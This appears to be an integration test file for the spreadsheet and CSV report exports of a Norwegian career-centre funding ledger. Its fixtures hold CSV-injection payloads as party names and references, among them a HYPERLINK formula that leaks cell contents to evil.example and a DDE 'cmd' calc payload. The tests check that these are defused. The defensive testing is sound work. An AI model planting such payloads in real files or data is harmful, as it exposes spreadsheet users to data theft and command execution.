  const position = (centre: string, positionId: string, p: Record<string, unknown>) =>
    post(`/centres/${centre}/staff-positions`, { positionId, title: 'Karriereveileder', employerKind: 'county-authority', employerPartyId: null, fte: '1', payer: { kind: 'centre' }, startedOn: '2012-01-01', ...p });
  const legacyParty = (partyId: string, name: string, kind: string, countyId: string) =>
    appendAsOldLedger(t.store, `party-${partyId}`, 'PartyRegistered', { partyId, name, kind, countyId, organisationNumber: null }, { actorRole: 'admin', expected: 'no_stream' });

  /** Instants for `asOf`: T0 after the counties only, T1 before the corrections and late writes. */
  let asOfT0 = '';
  let asOfT1 = '';
  const pause = () => new Promise((r) => setTimeout(r, 15));

  beforeAll(async () => {
    t = await startTestApp({ seed: true, env: { LEDGER_RATE_LIMIT_PER_MINUTE: '0' } });
    server = t.app.getHttpServer();
    admin = await t.auth('admin');
    auditor = await t.auth('auditor', [], 'revisor');
    await pause();
    asOfT0 = new Date().toISOString();
    await pause();

    // ---- Telemark: one centre, every kind of money, user text a spreadsheet would run as a formula ----
    const party = (partyId: string, name: string, kind: string, countyId: string | null = 'telemark') => post('/parties', { partyId, name, kind, ...(countyId ? { countyId } : {}) });
    await party('tm-fk', 'Telemark fylkeskommune', 'county-authority');
    await party('tm-nav', 'NAV Telemark', 'nav-county-office');
    await party('tm-navlok', 'NAV Skien', 'nav-local-office');
    await party('tm-kom', '=HYPERLINK("http://evil.example/?"&A1;"Skien kommune")', 'municipality');
    await party('tm-semi', 'Firma "Sitat"; AS & <Co>', 'other');
    await party('tm-plus', '+47 Fagforbundet', 'union');
    await party('tm-minus', '-1+1 Minus AS', 'employers-organisation');
    await party('tm-at', '@SUM(A1:A9) Høgskolen', 'university');
    await party('tm-comma', 'Regionrådet,=1+1', 'regional-council');
    await party('tm-apos', "'Apostrof' Statsforvalter", 'county-governor');
    await party('tm-park', 'Næringshage <Skien> & co', 'business-park');
    await party('vox-nat', 'Vox', 'vox', null);
    await post('/centres', { centreId: 'kc-tm', countyId: 'telemark', name: 'Karrieresenter Telemark; "Skien"', municipality: 'Skien', openedOn: '2009-01-01' });
    await money('kc-tm', 'operating-grant', 'tm-fk', '2363000.00'); // e1: corrected after T1
    await money('kc-tm', 'operating-grant', 'tm-nav', '1325000.00');
    await money('kc-tm', 'operating-grant', 'tm-navlok', '0.01');
    await money('kc-tm', 'operating-grant', 'tm-kom', '100000.50');
    await money('kc-tm', 'earmarked', 'tm-fk', '731000.00', { reference: '=HYPERLINK("http://evil.example")' });
    await money('kc-tm', 'earmarked', 'tm-nav', null, { reference: "-2+3+cmd|' /C calc'!A0" });
    await money('kc-tm', 'earmarked', 'tm-nav', null, { reference: 'Sak; "12/34"\u00a0& <b>' });
    await money('kc-tm', 'earmarked', 'tm-nav', null, { reference: '@NAV' });
    await money('kc-tm', 'earmarked', 'tm-nav', null, { reference: '+4712345678' });
    await money('kc-tm', 'tender', 'tm-nav', '300000.50');
    await money('kc-tm', 'other-income', 'tm-semi', '33.33');
    await money('kc-tm', 'other-income', 'tm-plus', '33.33');
    await money('kc-tm', 'other-income', 'tm-minus', '33.34');
    await money('kc-tm', 'other-income', 'tm-at', '1234567.89');
    await money('kc-tm', 'other-income', 'tm-comma', '0.05');
    await money('kc-tm', 'other-income', 'tm-apos', '250000.00');
    await money('kc-tm', 'other-income', 'tm-park', '10.00');
    await money('kc-tm', 'other-income', 'vox-nat', null, { reference: null });
    await money('kc-tm', 'in-kind', 'tm-kom', '120000.00');
    await money('kc-tm', 'in-kind', 'tm-kom', null);
    await money('kc-tm', 'in-kind', 'tm-semi', null);
    await position('kc-tm', 'tm-leder', { personId: 'ans-1', annualCost: null });
    await position('kc-tm', 'tm-veil', { fte: '0.5', employerKind: 'nav-county-office', employerPartyId: 'tm-nav', payer: { kind: 'party', partyId: 'tm-nav' }, annualCost: '300000.00', startedOn: '2013-07-01' });
    // Two positions the county authority pays directly: one with an annual cost, one without (its value is not known).
    await position('kc-tm', 'tm-veil2', { fte: '0.333', employerKind: 'municipality', payer: { kind: 'party', partyId: 'tm-fk' }, startedOn: '2013-03-01' });
    await position('kc-tm', 'tm-veil3', { fte: '0.25', employerKind: 'other', payer: { kind: 'party', partyId: 'tm-fk' }, annualCost: '100000.00', startedOn: '2013-01-01' });
    // A party named as a formula that pays staff directly (its name in the staff rows is defused too).
    await position('kc-tm', 'tm-veil4', { fte: '0.2', employerKind: 'municipality', payer: { kind: 'party', partyId: 'tm-kom' }, annualCost: '50000.00', startedOn: '2013-01-01' });
    // 2014: twelve amounts of NOK 999 999 999 999.99, a total of 16 significant digits (README: the CSV writes it exactly).
    for (let k = 0; k < 12; k++) await money('kc-tm', 'other-income', 'tm-apos', '999999999999.99', { fiscalYear: 2014 });
    await money('kc-tm', 'operating-grant', 'tm-fk', '0.03', { fiscalYear: 2014 });

    // ---- Troms: county money with no amount at all; a centre closed mid-2013; a centre named as a formula ----
    await party('tr-fk', 'Troms fylkeskommune', 'county-authority', 'troms');
    await post('/centres', { centreId: 'kc-tr', countyId: 'troms', name: '=Tromsø karrieresenter', municipality: 'Tromsø', openedOn: '2010-01-01' });
    await post('/centres', { centreId: 'kc-tr2', countyId: 'troms', name: 'Harstad, lagt ned', municipality: 'Harstad', openedOn: '2010-01-01' });
    await money('kc-tr', 'operating-grant', 'tr-fk', null);
    await money('kc-tr2', 'operating-grant', 'tr-fk', '5000.00');
    await post('/centres/kc-tr2/close', { closedOn: '2013-07-01', reason: 'Lagt ned' });

    // ---- Østfold: a centre closed in 2012 (open on no day of 2013), one open ----
    await party('of-fk', 'Østfold fylkeskommune', 'county-authority', 'ostfold');
    await post('/centres', { centreId: 'kc-of', countyId: 'ostfold', name: 'Karriere Østfold', municipality: 'Sarpsborg', openedOn: '2010-01-01' });
    await post('/centres', { centreId: 'kc-of-old', countyId: 'ostfold', name: 'Halden (nedlagt)', municipality: 'Halden', openedOn: '2008-01-01' });
    await money('kc-of', 'operating-grant', 'of-fk', '690400.00');
    await money('kc-of-old', 'operating-grant', 'of-fk', '1000.00', { fiscalYear: 2012 });
    await post('/centres/kc-of-old/close', { closedOn: '2012-06-30', reason: 'Lagt ned' });

    // ---- Vestfold: a centre that opens in 2014 only ----
    await post('/centres', { centreId: 'kc-vf', countyId: 'vestfold', name: 'Karrieresenter Vestfold', municipality: 'Tønsberg', openedOn: '2014-03-01' });

    // ---- Hedmark: a party recorded before names had to be plain text (characters XML 1.0 forbids) ----
    await legacyParty('hm-ctl', 'Kontroll\u0001tegn\uFFFE & <ok>\uD800', 'other', 'hedmark');
    await party('hm-fk', 'Hedmark fylkeskommune', 'county-authority', 'hedmark');
    await post('/centres', { centreId: 'kc-hm', countyId: 'hedmark', name: 'Karrieresenter Hedmark', municipality: 'Hamar', openedOn: '2010-01-01' });
    await money('kc-hm', 'other-income', 'hm-ctl', '100.00');
    await money('kc-hm', 'operating-grant', 'hm-fk', '300.00');

    // ---- Oppland: legacy names holding a carriage return, a leading tab ----
    await legacyParty('op-cr', 'Linje en\rlinje to', 'other', 'oppland');
    await legacyParty('op-tab', '\t=SUM(1;2)', 'other', 'oppland');
    await post('/centres', { centreId: 'kc-op', countyId: 'oppland', name: 'Karrieresenter Oppland', municipality: 'Lillehammer', openedOn: '2010-01-01' });
    await money('kc-op', 'other-income', 'op-cr', '1.00');
    await money('kc-op', 'other-income', 'op-tab', '2.00');

    await pause();
    asOfT1 = new Date().toISOString();
    await pause();
    // ---- after T1: a correction, new money and a party renamed from mid-2013 (the as-of reports show none of them) ----
    await post('/centres/kc-tm/funding/entries/e1/correction', { reason: 'Feil beløp', amount: '2363500.00' });
    await post('/centres/kc-of/funding/operating-grants', { entryId: 'late-1', fiscalYear: 2013, partyId: 'of-fk', decidedOn: '2013-06-01', amount: '10.00' });
    await post('/parties/tm-navlok/rename', { name: 'NAV Skien og Porsgrunn', effectiveFrom: '2013-06-01' }, 200);
  }, 120_000);
  afterAll(() => t.close());

  /** Every scope a report can be asked for that has data in 2013. */
  const MIX_SCOPES: { query: string; jsonPath: string }[] = [
    { query: '', jsonPath: '/funding-mix/2013' },
    { query: '?county=telemark', jsonPath: '/counties/telemark/funding-mix/2013' },
    { query: '?county=troms', jsonPath: '/counties/troms/funding-mix/2013' },
    { query: '?county=ostfold', jsonPath: '/counties/ostfold/funding-mix/2013' },
    { query: '?county=hedmark', jsonPath: '/counties/hedmark/funding-mix/2013' },
    { query: '?centre=kc-tm', jsonPath: '/centres/kc-tm/funding-mix/2013' },
    { query: '?centre=kc-tr', jsonPath: '/centres/kc-tr/funding-mix/2013' },
    { query: '?centre=kc-tr2', jsonPath: '/centres/kc-tr2/funding-mix/2013' },
  ];
  const REPORT_URLS = [
    '/reports/key-figures/2013/csv', '/reports/key-figures/2013/csv?county=telemark', '/reports/key-figures/2013/csv?county=finnmark',
    ...MIX_SCOPES.map((s) => `/reports/funding-mix/2013/csv${s.query}`),
    ...MIX_SCOPES.map((s) => `/reports/2013/xlsx${s.query}`),
    '/reports/funding-mix/2014/csv?centre=kc-tm', '/reports/2014/xlsx?centre=kc-tm', '/reports/2013/xlsx?centre=kc-of-old', '/reports/2013/xlsx?county=finnmark',
  ];
  const CSV_URLS = REPORT_URLS.filter((u) => u.includes('/csv'));
  const XLSX_URLS = REPORT_URLS.filter((u) => u.includes('/xlsx'));

  it('the review\'s own readers are strict: they refuse a broken zip, ill-formed XML, a bare LF or a stray quote in a CSV', async () => {
    const good = (await file('/reports/2013/xlsx?county=telemark')).rawPayload;
    expect(() => readWorkbook(good)).not.toThrow();
    const flipped = Buffer.from(good);
    flipped[200] ^= 0xff; // inside the first entry's deflate data
    expect(() => readZip(flipped)).toThrow();
    expect(() => readZip(good.subarray(0, good.length - 1))).toThrow();
    for (const bad of ['<a><b></a>', '<a x="1" x="2"/>', '<a>&nbsp;</a>', '<a>\u0001</a>', '<a>&#1;</a>', '<a x=1/>', '<a/><b/>', '<a>x < y</a>', '<a>&#xD800;</a>']) {
      expect([bad, (() => { try { parseXml(Buffer.from(bad)); return 'parsed'; } catch { return 'refused'; } })()]).toEqual([bad, 'refused']);
    }
    expect(textOf(parseXml(Buffer.from('<a>x&#13;y\r\nz&amp;&lt;</a>')))).toBe('x\ry\nz&<');
    for (const bad of ['\uFEFFa;b\nc\r\n', '\uFEFFa;b"c\r\n', '\uFEFFa;"b"c\r\n', '\uFEFFa;"b\r\n', 'a;b\r\n', '\uFEFFa;b']) expect(() => csvOf(bad)).toThrow();
    expect(csvOf('\uFEFFa;"b;""c""\r\nd";\r\n\r\n').rows).toEqual([['a', 'b;"c"\r\nd', ''], []]);
  });

  // ===========================================================================================
  // CSV: the file itself
  // ===========================================================================================

  describe('CSV files', () => {
    it('README: UTF-8 with a BOM, `;` between fields, every record ending CRLF (no bare CR or LF outside quotes), text/csv; charset=utf-8 — every report CSV', async () => {
      for (const url of CSV_URLS) {
        const res = await file(url);
        expect([url, res.rawPayload.subarray(0, 3).toString('hex')]).toEqual([url, 'efbbbf']);
        expect([url, res.headers['content-type']]).toEqual([url, 'text/csv; charset=utf-8']);
        expect([url, Buffer.from(res.body, 'utf8').equals(res.rawPayload)]).toEqual([url, true]); // valid UTF-8
        expect(() => csvOf(res.body)).not.toThrow();
        expect([url, res.body.endsWith('\r\n')]).toEqual([url, true]);
        expect([url, res.headers['cache-control']]).toEqual([url, 'private, no-cache']);
        // Excel opens a file whose first field starts with "ID" as SYLK, not CSV
        expect([url, /^\uFEFF?ID/.test(res.body)]).toEqual([url, false]);
      }
    });

    it('/key-figures/:year?format=csv: UTF-8 with BOM, CRLF, `,` between fields, strict RFC 4180', async () => {
      const res = await file('/key-figures/2013?format=csv');
      expect(res.rawPayload.subarray(0, 3).toString('hex')).toBe('efbbbf');
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(() => csvOf(res.body, ',')).not.toThrow();
    });

    it('README: decimal comma — no number in a report CSV is written with a decimal point, and none with a thousands separator', async () => {
      for (const url of CSV_URLS) {
        const { rows } = await csv(url);
        const offending = rows.flat().filter((f) => /^-?\d+\.\d+$/.test(f) || /^\d{1,3}([ \u00a0.]\d{3})+(,\d+)?$/.test(f));
        expect([url, offending]).toEqual([url, []]);
      }
    });

    it('a field holding `;`, `"` or a line break is quoted with quotes doubled, and reads back as the JSON text (party, centre, reference)', async () => {
      const { rows, fields } = await csv('/reports/funding-mix/2013/csv?county=telemark');
      const mix = await json('/counties/telemark/funding-mix/2013');
      const semi = mix.byParty.find((p: any) => p.partyId === 'tm-semi').partyName;
      expect(rows.flat()).toContain(semi);
      expect(rows.flat()).toContain('Karrieresenter Telemark; "Skien"');
      expect(rows.flat()).toContain('Sak; "12/34"\u00a0& <b>');
      for (const f of fields.flat()) if (/[;"\r\n]/.test(f.v)) expect([f.v, f.quoted]).toEqual([f.v, true]);
    });

    it('README: every text from user input that a spreadsheet would run as a formula (=, +, -, @, tab, CR) is prefixed with \', in every report CSV; no field runs as a formula', async () => {
      for (const url of [...CSV_URLS, '/reports/funding-mix/2013/csv?county=oppland']) {
        const { rows } = await csv(url);
        const formulas = rows.flat().filter(runsAsFormula);
        expect([url, formulas]).toEqual([url, []]);
      }
      const tm = (await csv('/reports/funding-mix/2013/csv?county=telemark')).rows.flat();
      for (const text of ['=HYPERLINK("http://evil.example/?"&A1;"Skien kommune")', '+47 Fagforbundet', '-1+1 Minus AS', '@SUM(A1:A9) Høgskolen', "-2+3+cmd|' /C calc'!A0", '@NAV', '+4712345678']) {
        expect([text, tm.includes(`'${text}`), tm.includes(text)]).toEqual([text, true, false]);
      }
      // text that does not start with one is written as it is
      expect(tm).toContain("'Apostrof' Statsforvalter");
      expect(tm).toContain('Regionrådet,=1+1');
      const op = (await csv('/reports/funding-mix/2013/csv?county=oppland')).rows.flat();
      expect(op).toContain("'\t=SUM(1;2)");
      // a centre named as a formula: in the Troms mix's per-centre rows and the key-figures county column alike
      const tr = (await csv('/reports/funding-mix/2013/csv?county=troms')).rows;
      expect(tr.map((r) => r[0])).toContain("'=Tromsø karrieresenter");
    });

    it('the key-figures report CSV: every table row has 1 + one field per county (the columns of the header), the blank line and the closing note apart', async () => {
      for (const url of ['/reports/key-figures/2013/csv', '/reports/key-figures/2013/csv?county=telemark', '/reports/key-figures/2013/csv?county=finnmark', '/reports/key-figures/1995/csv']) {
        const { rows } = await csv(url);
        const width = rows[0].length;
        const table = rows.slice(0, rows.length - 2);
        expect([url, table.filter((r) => r.length !== width).map((r) => r[0])]).toEqual([url, []]);
        expect([url, rows[rows.length - 2], rows[rows.length - 1].length]).toEqual([url, [], 1]);
      }
    });

    it('Norwegian labels only: no English party kind, money kind or row key shows in any report CSV or XLSX', async () => {
      const english = /^(county-authority|nav-county-office|nav-local-office|municipality|county-governor|union|employers-organisation|university|regional-council|business-park|other|operating-grant|earmarked|tender|other-income|in-kind|yes|varies|none|Total|Centres)$/;
      for (const url of CSV_URLS) {
        const { rows } = await csv(url);
        expect([url, rows.flat().filter((f) => english.test(f))]).toEqual([url, []]);
      }
      for (const url of XLSX_URLS) {
        const wb = await xlsx(url);
        const texts = wb.sheets.flatMap((s) => s.rows.flat().map((c) => c?.text).filter((x): x is string => !!x));
        expect([url, texts.filter((f) => english.test(f))]).toEqual([url, []]);
      }
    });
  });

  // ===========================================================================================
  // Numbers: every cell against the JSON read route for the same year and filter
  // ===========================================================================================

  describe('every number equals the JSON answer', () => {
    it('key-figures report CSV = GET /key-figures/:year, cell by cell (counts, persons, full time, staff-years, indicators, NOK with "ikke oppgitt", staff-years paid directly), unfiltered and per county', async () => {
      for (const [url, jsonPath] of [
        ['/reports/key-figures/2013/csv', '/key-figures/2013'],
        ['/reports/key-figures/2013/csv?county=telemark', '/key-figures/2013?counties=telemark'],
        ['/reports/key-figures/2013/csv?county=troms', '/key-figures/2013?counties=troms'],
        ['/reports/key-figures/2014/csv', '/key-figures/2014'],
      ]) {
        const kf = await json(jsonPath);
        const { rows } = await csv(url);
        const expected = csvOfRows(keyFiguresExpected(kf, 'csv'));
        expect([url, rows.slice(0, expected.length)]).toEqual([url, expected]);
        expect([url, rows.length]).toEqual([url, expected.length + 1]);
        expect(rows[rows.length - 1][0]).toMatch(/^«Ja»: alle sentrene.*«\+ ikke oppgitt»/);
      }
    });

    it('/key-figures/:year?format=csv = its JSON, cell by cell (`,` and a decimal point, as that route documents)', async () => {
      for (const q of ['', '&counties=telemark,troms']) {
        const kf = await json(`/key-figures/2013${q ? `?${q.slice(1)}` : ''}`);
        const { rows } = csvOf((await file(`/key-figures/2013?format=csv${q}`)).body, ',');
        expect([q, rows]).toEqual([q, csvOfRows(keyFiguresExpected(kf, 'plain'))]);
      }
    });

    it('funding-mix report CSV = the JSON funding mix of the country, each county and each centre: by party, Sum, by kind, party × kind, unreported entries with their references, in-kind, staff-years, staff paid directly, per centre/county', async () => {
      for (const s of MIX_SCOPES) {
        const mix = await json(s.jsonPath);
        const { rows } = await csv(`/reports/funding-mix/2013/csv${s.query}`);
        const expected = csvOfRows(fundingMixExpected(mix));
        expect([s.query, rows.slice(0, expected.length)]).toEqual([s.query, expected]);
        expect([s.query, rows.length, rows[rows.length - 1][0]]).toEqual([s.query, expected.length + 1, expect.stringContaining('100,0 %')]);
      }
    });

    it('an auditor\'s cross-check inside the funding-mix CSV: parties, kinds, party × kind and the per-centre (per-county) rows each add up to the Sum to the øre; the listed shares add up to 100,0', async () => {
      for (const s of MIX_SCOPES) {
        const { rows } = await csv(`/reports/funding-mix/2013/csv${s.query}`);
        const header = (first: string, second: string) => rows.findIndex((r) => r[0] === first && r[1] === second);
        const block = (from: number) => { const out: string[][] = []; for (let i = from + 1; i < rows.length && rows[i].length > 1 && rows[i][0] !== 'Sum'; i++) out.push(rows[i]); return out; };
        const sum = (rs: string[][]) => rs.reduce((a, r) => a + (ore(r[2]) ?? 0n), 0n);
        const total = ore(rows.find((r) => r[0] === 'Sum')![2]) ?? 0n;
        const parties = block(header('Finansiør', 'Type part'));
        expect([s.query, 'parties', sum(parties)]).toEqual([s.query, 'parties', total]);
        expect([s.query, 'kinds', sum(block(header('Type midler', '')))]).toEqual([s.query, 'kinds', total]);
        expect([s.query, 'party×kind', sum(block(header('Finansiør', 'Type midler')))]).toEqual([s.query, 'party×kind', total]);
        const parts = rows.findIndex((r) => r[0] === 'Per karrieresenter' || r[0] === 'Per fylke');
        if (parts >= 0) expect([s.query, 'parts', sum(block(parts))]).toEqual([s.query, 'parts', total]);
        const shares = parties.filter((r) => r[3] !== '').reduce((a, r) => a + Number(r[3].replace(',', '')), 0);
        if (parties.some((r) => r[3] !== '')) expect([s.query, shares]).toEqual([s.query, 1000]);
      }
    });

    it('XLSX «Nøkkeltall» = GET /key-figures/:year: counts and persons as whole numbers (#,##0), staff-years 0.0, NOK #,##0.00, "ikke oppgitt" where no amount, a count row after each NOK row with unreported entries', async () => {
      for (const [url, jsonPath] of [
        ['/reports/2013/xlsx', '/key-figures/2013'],
        ['/reports/2013/xlsx?county=telemark', '/key-figures/2013?counties=telemark'],
        ['/reports/2013/xlsx?county=troms', '/key-figures/2013?counties=troms'],
        ['/reports/2014/xlsx', '/key-figures/2014'],
      ]) {
        const kf = await json(jsonPath);
        const sheet = (await xlsx(url)).sheets[0];
        const expected = expectedCells(keyFiguresExpected(kf, 'xlsx'));
        expect([url, sheetCells(sheet.rows).slice(0, expected.length)]).toEqual([url, expected]);
        expect([url, sheet.rows.length]).toEqual([url, expected.length + 1]);
        expect(sheet.rows[sheet.rows.length - 1][0].text).toMatch(/poster uten oppgitt beløp/);
      }
    });

    it('XLSX «Finansieringsmiks» = the JSON funding mix of every scope: amounts #,##0.00, shares as fractions in 0.0%, counts #,##0, staff-years 0.0 — real numbers, never text', async () => {
      for (const s of MIX_SCOPES) {
        const mix = await json(s.jsonPath);
        const sheet = (await xlsx(`/reports/2013/xlsx${s.query}`)).sheets[1];
        const expected = expectedCells(fundingMixExpected(mix));
        expect([s.query, sheetCells(sheet.rows).slice(0, expected.length)]).toEqual([s.query, expected]);
        expect([s.query, sheet.rows.length]).toEqual([s.query, expected.length + 1]);
      }
    });

    it('XLSX: no number is stored as text, and every number cell has a number format (no General numbers)', async () => {
      for (const url of XLSX_URLS) {
        const wb = await xlsx(url);
        for (const s of wb.sheets) {
          const cells = s.rows.flat().filter(Boolean);
          expect([url, s.name, cells.filter((c) => c.text !== null && /^-?\d+([.,]\d+)?( %)?$/.test(c.text)).map((c) => c.ref)]).toEqual([url, s.name, []]);
          expect([url, s.name, cells.filter((c) => c.number !== null && c.numFmt === 'General').map((c) => c.ref)]).toEqual([url, s.name, []]);
        }
      }
    });

    it('the XLSX and the CSV of the same report agree: each XLSX number, written with a decimal comma, is the CSV field (or its sum before "+ ikke oppgitt")', async () => {
      for (const s of MIX_SCOPES) {
        const { rows } = await csv(`/reports/funding-mix/2013/csv${s.query}`);
        const sheet = (await xlsx(`/reports/2013/xlsx${s.query}`)).sheets[1];
        const mismatches: string[] = [];
        sheet.rows.forEach((r, i) => r.forEach((c) => {
          if (!c || c.number === null) return;
          const field = rows[i]?.[c.col] ?? '';
          const shown = c.numFmt === PCT ? (Math.round(c.number * 1000) / 10).toFixed(1) : c.numFmt === NOK ? c.number.toFixed(2) : c.numFmt === TENTHS ? c.number.toFixed(1) : String(c.number);
          if (field.replace(' + ikke oppgitt', '') !== comma(shown)) mismatches.push(`${c.ref}: xlsx ${shown}, csv ${field}`);
        }));
        expect([s.query, mismatches]).toEqual([s.query, []]);
      }
    });

    it('README (The limit of exact sums): a 2014 total of 16 significant digits is written exactly in the CSV (11 999 999 999 999,91) and within an øre in the XLSX cell', async () => {
      const mix = await json('/centres/kc-tm/funding-mix/2014');
      expect(mix.total.amount).toBe('11999999999999.91');
      const { rows } = await csv('/reports/funding-mix/2014/csv?centre=kc-tm');
      expect(rows.find((r) => r[0] === 'Sum')![2]).toBe('11999999999999,91');
      const kfRow = (await csv('/reports/key-figures/2014/csv?county=telemark')).rows.find((r) => r[0] === 'Andre inntekter, kr')!;
      expect(kfRow[1]).toBe('11999999999999,88');
      const sum = (await xlsx('/reports/2014/xlsx?centre=kc-tm')).sheets[1].rows.find((r) => r[0]?.text === 'Sum')!;
      expect(Math.abs(sum[2].number! - 11999999999999.91)).toBeLessThan(0.01);
    });

    it('in-kind lines stay beside the money (not in any total) and read as the JSON: value, "+ ikke oppgitt" when some have none, "ikke oppgitt" when none has one', async () => {
      const mix = await json('/counties/telemark/funding-mix/2013');
      const { rows } = await csv('/reports/funding-mix/2013/csv?county=telemark');
      const at = rows.findIndex((r) => r[0] === 'Part' && r[2] === 'Anslått verdi, kr');
      expect(rows.slice(at + 1, at + 3).map((r) => r.slice(0, 6))).toEqual([
        ["'=HYPERLINK(\"http://evil.example/?\"&A1;\"Skien kommune\")", '', '120000,00 + ikke oppgitt', '', '2', '1'],
        ['Firma "Sitat"; AS & <Co>', '', 'ikke oppgitt', '', '1', '1'],
      ]);
      expect(mix.inKind.map((i: any) => [i.estimatedValue, i.entries, i.unvaluedEntries])).toEqual([['120000.00', 2, 1], [null, 1, 1]]);
      expect(ore(rows.find((r) => r[0] === 'Sum')![2])).toBe(BigInt(mix.total.amountOre));
    });

    it('staff paid directly: a value that leaves out positions without an annual cost is not shown as if it were the whole (JSON: valueComplete false)', async () => {
      // README (Unreported amounts): "a total adds only reported amounts and says so"; the report CSVs say
      // it as "<sum> + ikke oppgitt". The JSON flags the county authority's staff value as partial
      // (valueComplete: false: tm-veil2, 0.333 FTE from 1 March, has no annual cost); the report writes
      // the partial NOK 100 000,00 as a plain number, so the reader takes it for the whole value.
      const mix = await json('/counties/telemark/funding-mix/2013');
      const fk = mix.staff.paidDirectly.find((p: any) => p.partyId === 'tm-fk');
      expect([fk.value, fk.valueComplete]).toEqual(['100000.00', false]);
      const { rows } = await csv('/reports/funding-mix/2013/csv?county=telemark');
      const row = rows.find((r) => r[0] === 'Telemark fylkeskommune' && r[1] === 'Fylkeskommune' && r.length === 4)!;
      expect(row[3]).not.toBe('100000,00');
      expect(row[3]).toMatch(/ikke oppgitt/);
    });

    it('the Sum row\'s share (Andel) is what the shares above it add up to: no 100,0 % over a mix with no amount at all (a year with no data, a county without a centre, a centre not yet open)', async () => {
      // The rounding rule (README): shares "always add up to exactly 100.0 %" — of the amounts listed.
      // With nothing listed the JSON has no share anywhere (total 0.00, byParty []), but the Sum row
      // says 100,0 (100,0 % in the workbook) beside 0,00: an auditor adding up the column gets 0.
      const seen: unknown[] = [];
      for (const [query, jsonPath] of [['/1995', '/funding-mix/1995'], ['/2013?county=finnmark', '/counties/finnmark/funding-mix/2013'], ['/2013?centre=kc-vf', '/centres/kc-vf/funding-mix/2013']]) {
        const mix = await json(jsonPath);
        expect([query, mix.byParty, mix.total.amount]).toEqual([query, [], '0.00']);
        const [path, q] = query.split('?');
        const { rows } = await csv(`/reports/funding-mix${path}/csv${q ? `?${q}` : ''}`);
        const sheet = (await xlsx(`/reports${path}/xlsx${q ? `?${q}` : ''}`)).sheets[1];
        const sumRow = sheet.rows.find((r) => r[0]?.text === 'Sum')!;
        seen.push([query, rows.find((r) => r[0] === 'Sum')!.slice(2, 4), sumRow[2]?.number, sumRow[3]?.number ?? null]);
      }
      expect(seen).toEqual([['/1995', ['0,00', ''], 0, null], ['/2013?county=finnmark', ['0,00', ''], 0, null], ['/2013?centre=kc-vf', ['0,00', ''], 0, null]]);
    });

    it('an auditor\'s cross-check between the two reports of one county: each key-figures NOK row is the funding mix\'s party × kind lines of that party kind, staff-years and staff paid directly the same', async () => {
      const ROWS: [string, string, string | null][] = [
        ['Driftsmidler fra fylkeskommunen', 'Driftsmidler', 'Fylkeskommune'], ['Driftsmidler fra NAV fylke', 'Driftsmidler', 'NAV fylke'],
        ['Driftsmidler fra NAV lokal', 'Driftsmidler', 'NAV lokal'], ['Driftsmidler fra kommuner', 'Driftsmidler', 'Kommune'],
        ['Øremerkede midler fra fylkeskommunen', 'Øremerkede midler', 'Fylkeskommune'], ['Øremerkede midler fra NAV fylke', 'Øremerkede midler', 'NAV fylke'],
        ['Anbud vunnet fra NAV fylke', 'Anbud', 'NAV fylke'], ['Andre inntekter', 'Andre inntekter', null],
      ];
      for (const county of ['telemark', 'troms', 'ostfold']) {
        const kf = (await csv(`/reports/key-figures/2013/csv?county=${county}`)).rows;
        const mix = (await csv(`/reports/funding-mix/2013/csv?county=${county}`)).rows;
        const partyTable = mix.findIndex((r) => r[0] === 'Finansiør' && r[1] === 'Type part');
        const kindOf = new Map<string, string>();
        for (let i = partyTable + 1; mix[i][0] !== 'Sum'; i++) kindOf.set(mix[i][0], mix[i][1]);
        const lines = mix.slice(mix.findIndex((r) => r[0] === 'Finansiør' && r[1] === 'Type midler') + 1);
        const pk = lines.slice(0, lines.findIndex((r) => r.length === 0));
        for (const [label, kind, partyKind] of ROWS) {
          const mine = pk.filter((r) => r[1] === kind && (partyKind === null || kindOf.get(r[0]) === partyKind));
          const sum = mine.reduce((a, r) => a + (ore(r[2]) ?? 0n), 0n);
          const someUnreported = mine.some((r) => r[2].includes('ikke oppgitt'));
          const allUnreported = mine.length > 0 && mine.every((r) => r[2] === 'ikke oppgitt');
          const written = `${sum / 100n},${String(sum % 100n).padStart(2, '0')}`;
          const expected = mine.length === 0 ? '' : allUnreported ? 'ikke oppgitt' : someUnreported ? `${written} + ikke oppgitt` : written;
          expect([county, label, kf.find((r) => r[0] === `${label}, kr`)![1]]).toEqual([county, label, expected]);
        }
        expect([county, kf.find((r) => r[0] === 'Årsverk')![1]]).toEqual([county, mix.find((r) => r[0] === 'Årsverk i alt')![2]]);
      }
      const kf = (await csv('/reports/key-figures/2013/csv?county=telemark')).rows;
      const mix = (await csv('/reports/funding-mix/2013/csv?county=telemark')).rows;
      const paid = (kindNb: string) => mix.filter((r) => r.length === 4 && r[1] === kindNb).map((r) => r[2]);
      expect([kf.find((r) => r[0] === 'Årsverk lønnet direkte av fylkeskommunen, årsverk')![1], kf.find((r) => r[0] === 'Årsverk lønnet direkte av NAV fylke, årsverk')![1]]).toEqual([...paid('Fylkeskommune'), ...paid('NAV fylke')]);
    });
  });

  // ===========================================================================================
  // As of a recorded time
  // ===========================================================================================

  describe('asOf (README: every read route accepts ?asOf=, the reports included)', () => {
    it('each report as of T1 equals the JSON as of T1 — and not the head (a correction, a late entry and a party rename came after T1)', async () => {
      const at = encodeURIComponent(asOfT1);
      const kfThen = await json(`/key-figures/2013?asOf=${at}`);
      const kfNow = await json('/key-figures/2013');
      const tmThen = kfThen.counties.find((c: any) => c.countyId === 'telemark').money['operatingGrant.countyAuthority'].amount;
      const tmNow = kfNow.counties.find((c: any) => c.countyId === 'telemark').money['operatingGrant.countyAuthority'].amount;
      expect([tmThen, tmNow]).toEqual(['2363000.00', '2363500.00']);
      const { rows } = await csv(`/reports/key-figures/2013/csv?asOf=${at}`);
      const expected = csvOfRows(keyFiguresExpected(kfThen, 'csv'));
      expect(rows.slice(0, expected.length)).toEqual(expected);
      const sheet = (await xlsx(`/reports/2013/xlsx?asOf=${at}`)).sheets[0];
      const cells = expectedCells(keyFiguresExpected(kfThen, 'xlsx'));
      expect(sheetCells(sheet.rows).slice(0, cells.length)).toEqual(cells);
      for (const s of MIX_SCOPES) {
        const mixThen = await json(`${s.jsonPath}?asOf=${at}`);
        const sep = s.query ? '&' : '?';
        const got = (await csv(`/reports/funding-mix/2013/csv${s.query}${sep}asOf=${at}`)).rows;
        const want = csvOfRows(fundingMixExpected(mixThen));
        expect([s.query, got.slice(0, want.length)]).toEqual([s.query, want]);
        const sheet2 = (await xlsx(`/reports/2013/xlsx${s.query}${sep}asOf=${at}`)).sheets[1];
        const want2 = expectedCells(fundingMixExpected(mixThen));
